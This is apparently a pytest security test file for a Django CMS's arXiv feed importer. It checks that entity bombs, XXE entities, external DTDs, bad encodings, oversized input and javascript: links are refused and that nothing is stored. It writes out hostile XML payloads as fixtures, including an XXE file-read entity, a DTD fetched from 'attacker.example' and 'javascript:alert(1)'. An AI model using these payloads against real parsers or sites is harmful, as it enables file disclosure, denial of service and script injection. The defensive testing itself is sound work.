"""Hostile XML given to the arXiv importer: entity bombs, external entities and DTDs, bad
encodings, oversized input, unsafe links; each refused naming the problem, nothing stored.
"""

import io

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from cms.exceptions import ImportFailed
from cms.importers.arxiv import import_arxiv
from tests.support.import_arxiv import BILLION_LAUGHS, assert_nothing_stored, feed, paper, run

pytestmark = pytest.mark.django_db


class TestArxivHostileInput:
    def test_entity_expansion_bomb_is_refused_and_nothing_is_stored(self):
        data = feed(paper(title="&lol9;"), prolog=BILLION_LAUGHS)
        with pytest.raises(ImportFailed) as caught:
            run(data)
        message = str(caught.value)
        assert message.startswith("feed.xml: the XML has a document type declaration")
        assert "<!DOCTYPE lolz>" in message and "XML bomb" in message
        assert_nothing_stored()

    def test_external_entity_is_refused_and_the_file_is_never_read(self, tmp_path):
        secret = tmp_path / "secret.txt"
        secret.write_text("TOP-SECRET-CANARY")
        prolog = f'<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
        with pytest.raises(ImportFailed) as caught:
            run(feed(paper(title="&xxe;"), prolog=prolog))
        assert "document type declaration" in str(caught.value)
        assert "TOP-SECRET-CANARY" not in str(caught.value)
        assert_nothing_stored()

    def test_external_dtd_is_refused_naming_where_it_points(self):
        prolog = '<!DOCTYPE feed SYSTEM "http://attacker.example/evil.dtd">\n'
        with pytest.raises(ImportFailed) as caught:
            run(feed(paper(), prolog=prolog))
        assert "pointing at http://attacker.example/evil.dtd" in str(caught.value)
        assert_nothing_stored()

    def test_malformed_xml_names_the_line_and_column(self):
        data = feed(paper()).replace(b"</title>", b"</titel>")
        with pytest.raises(ImportFailed) as caught:
            run(data)
        assert str(caught.value) == (
            "feed.xml, line 4, column 148: the file is not well-formed XML (mismatched tag)."
        )

    def test_bytes_in_another_encoding_are_refused_with_their_position(self):
        data = feed(paper(title="Caf\u00e9")).replace("Café".encode(), "Café".encode("latin-1"))
        with pytest.raises(ImportFailed) as caught:
            run(data)
        assert "not well-formed XML (not well-formed (invalid token))" in str(caught.value)
        assert "line 4" in str(caught.value)
        assert_nothing_stored()

    def test_unknown_declared_encoding_is_refused(self):
        data = feed(paper()).replace(b'encoding="UTF-8"', b'encoding="x-unknown-42"')
        with pytest.raises(ImportFailed) as caught:
            run(data)
        assert str(caught.value) == (
            "feed.xml: the XML cannot be decoded (unknown encoding: x-unknown-42)."
        )

    def test_file_over_the_size_limit_is_refused_before_it_is_read(self, tmp_path):
        big = tmp_path / "big.xml"
        with big.open("wb") as stream:
            stream.truncate(50 * 1024 * 1024)
        with pytest.raises(CommandError) as caught:
            call_command("import_arxiv", str(big))
        assert f"{big}: the file is 50 MB; the limit is 10 MB" in str(caught.value)
        assert_nothing_stored()

    def test_stream_over_the_size_limit_is_refused_after_reading_only_the_limit(self, settings):
        settings.CMS_IMPORT_MAX_BYTES = 1000

        class CountingStream(io.BytesIO):
            requested = 0

            def read(self, size=-1):
                CountingStream.requested = size
                return super().read(size)

        stream = CountingStream(feed(*[paper(f"2403.{n:05d}") for n in range(30)]))
        with pytest.raises(ImportFailed) as caught:
            import_arxiv(stream, source="feed.xml")
        assert str(caught.value) == (
            "feed.xml: the input is longer; the limit is 1,000 bytes (CMS_IMPORT_MAX_BYTES). "
            "Split it into smaller files."
        )
        assert CountingStream.requested == 1001

    def test_javascript_link_is_refused_naming_the_entry(self):
        link = '<link href="javascript:alert(1)" rel="alternate" type="text/html"/>'
        with pytest.raises(ImportFailed) as caught:
            run(feed(paper(), paper("2403.00002", link=link)))
        assert str(caught.value) == (
            "feed.xml, entry 2 (http://arxiv.org/abs/2403.00002v1): link 'javascript:alert(1)' "
            "is not an http(s) address."
        )
        assert_nothing_stored()

    def test_invalid_second_entry_rolls_back_the_first(self):
        with pytest.raises(ImportFailed) as caught:
            run(feed(paper(), paper("2403.00002", title="T" * 301)))
        assert str(caught.value).startswith(
            "feed.xml, entry 2 (arXiv 2403.00002v1): title: Ensure this value has at most 300"
        )
        assert_nothing_stored()

    def test_id_that_is_not_an_arxiv_address_is_refused(self):
        data = feed(paper().replace("http://arxiv.org/abs/2403.00001v1", "urn:x"))
        with pytest.raises(ImportFailed, match=r"entry 1 \(urn:x\): <id> 'urn:x' is not an arXiv"):
            run(data)

    def test_error_answer_from_the_api_is_reported(self):
        error = (
            "<entry><id>http://arxiv.org/api/errors#incorrect_id_format_for_1234</id>"
            "<title>Error</title><summary>incorrect id format for 1234</summary></entry>"
        )
        with pytest.raises(ImportFailed) as caught:
            run(feed(error))
        assert str(caught.value) == (
            "feed.xml: the arXiv API answered with an error: incorrect id format for 1234"
        )

    def test_document_that_is_not_an_atom_feed_is_refused(self):
        with pytest.raises(ImportFailed, match="the root element is <rss>, not an Atom <feed>"):
            run(b"<rss><channel/></rss>")
